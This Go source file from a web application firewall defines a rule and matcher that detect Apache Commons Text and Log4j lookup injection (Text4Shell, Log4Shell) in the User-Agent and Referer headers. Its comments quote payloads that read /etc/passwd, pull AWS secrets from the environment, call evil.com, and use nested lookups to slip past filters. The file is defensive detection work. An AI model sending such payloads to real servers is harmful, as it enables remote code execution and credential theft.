package waf

import "strings"

// javaLookupRules is rule 210225: a lookup of Apache Commons Text's
// StringSubstitutor.createInterpolator() (and Commons Configuration's,
// the same names) or of Log4j 2's in the User-Agent or the Referer, the
// headers an application logs or templates with one: ${file:UTF-8:/etc/passwd},
// ${xml:/etc/passwd:/a}, ${properties:/app/application.properties::db.password},
// ${url:UTF-8:http://evil/}, ${dns:address|evil.com}, ${env:AWS_SECRET_ACCESS_KEY},
// ${sys:user.home}, ${script:javascript:...} (Text4Shell). Attack 90
// passed them there, each run on real software: the CRS's 932130 and
// 930120 refuse them in the arguments and other headers, but do not read
// those two headers, and its 944150 there reads ${jndi: and a nested
// ${...${ only. A Go operator (javaLookup): at each "${", a lookup's
// name (any case: both libraries lower-case it) with blanks around it and
// a ':' after it, or a name built with a nested ${...} (Log4j's
// ${${lower:f}ile:, ${${::-f}ile:), in a window of javaLookupWindow
// bytes. "${" alone, or before a name that is no lookup's or no ':'
// (a template in a URL: /users/${id}, ${page:1}), passes.
var javaLookupRules = `SecRule REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer "@` + javaLookupOp + `" "id:210225,phase:2,block,t:none,t:urlDecodeUni,msg:'Java lookup injection: a Commons Text or Log4j lookup in the User-Agent or the Referer',tag:'application-java',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
`

const javaLookupOp = "gatewayJavaLookup"

func init() {
	registerGoOperator(javaLookupOp, javaLookup)
}

// javaLookupWindow is how many bytes after a "${" are read for a
// lookup's name (with nested lookups in it).
const javaLookupWindow = 128

// javaLookupNames are the lookups' names, in lower case: Commons Text's
// StringLookupFactory (its KEY_* constants and the deprecated aliases
// its default lookups add: base64, which createInterpolator() decodes
// as base64Decoder, ${BASE64:JHtlbnY6U0VDUkVUX1RPS0VOfQ==} printed the
// secret on Commons Text 1.10, and loobackAddress, KEY_LOOPBACK_ADDRESS's
// misspelt value in some releases; as Commons Configuration's
// DefaultLookups) and Log4j's Interpolator (its map and plugins: base64
// in 3.x, kubernetes beside k8s).
var javaLookupNames = map[string]bool{
	// Commons Text
	"base64": true, "base64decoder": true, "base64encoder": true, "const": true, "date": true, "dns": true, "env": true,
	"file": true, "java": true, "localhost": true, "loopbackaddress": true, "loobackaddress": true, "properties": true,
	"resourcebundle": true, "script": true, "sys": true, "url": true, "urldecoder": true, "urlencoder": true,
	"xml": true, "xmldecoder": true, "xmlencoder": true,
	// Log4j 2 and 3
	"bundle": true, "ctx": true, "docker": true, "event": true, "jndi": true, "jvmrunargs": true, "k8s": true,
	"kubernetes": true, "log4j": true, "lower": true, "upper": true, "main": true, "map": true, "marker": true,
	"sd": true, "spring": true, "web": true,
}

// javaLookup is rule 210225's operator (see javaLookupRules).
func javaLookup(v string) bool {
	for off := 0; off < len(v); {
		i := strings.Index(v[off:], "${")
		if i < 0 {
			return false
		}
		i += off
		off = i + 2
		if javaLookupAt(v[off:min(len(v), off+javaLookupWindow)]) {
			return true
		}
	}
	return false
}

// javaLookupAt: w (the bytes after a "${") starts with a lookup's name:
// blanks, letters and digits in any case (the Kelvin sign, which Java
// lower-cases to k, too), blanks, then ':', and the name one of
// javaLookupNames or built with a nested ${...} (whatever it holds: a
// name no template writes so).
func javaLookupAt(w string) bool {
	var a [24]byte
	name, built := a[:0], false
	j := skipBlanks(w, 0)
	for j < len(w) {
		c := w[j]
		switch {
		case c == ':':
			return built || javaLookupNames[string(name)]
		case c == ' ' || c == '\t':
			j = skipBlanks(w, j)
			return j < len(w) && w[j] == ':' && (built || javaLookupNames[string(name)])
		case c == '$' && j+1 < len(w) && w[j+1] == '{':
			e := closingBrace(w, j+2)
			if e < 0 {
				return false
			}
			built, j = true, e+1
		case strings.HasPrefix(w[j:], "\u212a"):
			if len(name) == cap(name) {
				return false
			}
			name, j = append(name, 'k'), j+len("\u212a")
		case identByte(c, ""):
			if len(name) == cap(name) {
				return false
			}
			if c >= 'A' && c <= 'Z' {
				c += 'a' - 'A'
			}
			name, j = append(name, c), j+1
		default:
			return false
		}
	}
	return false
}

// closingBrace is the index of the '}' that closes a "${" whose content
// starts at w[j], nested ones counted; -1 when w holds none.
func closingBrace(w string, j int) int {
	depth := 1
	for ; j < len(w); j++ {
		switch {
		case w[j] == '}':
			if depth--; depth == 0 {
				return j
			}
		case w[j] == '$' && j+1 < len(w) && w[j+1] == '{':
			depth++
			j++
		}
	}
	return -1
}
